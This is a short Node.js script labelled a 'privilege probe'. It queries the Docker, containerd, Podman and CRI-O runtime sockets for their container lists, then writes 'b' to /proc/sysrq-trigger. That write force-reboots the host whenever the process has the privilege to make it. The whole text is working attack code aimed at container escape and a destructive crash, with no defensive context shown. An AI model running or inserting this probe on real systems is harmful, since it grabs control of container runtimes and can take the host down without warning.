// class: privilege probe; possible: low medium
const http = require('http'), fs = require('fs');
for (const p of ['/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock', '/run/crio/crio.sock'])
  http.get({ socketPath: p, path: '/containers/json' }, r => r.pipe(process.stdout)).on('error', e => console.log(p, e.code));
try { fs.writeFileSync('/proc/sysrq-trigger', 'b'); } catch (e) { console.log(e.code); }
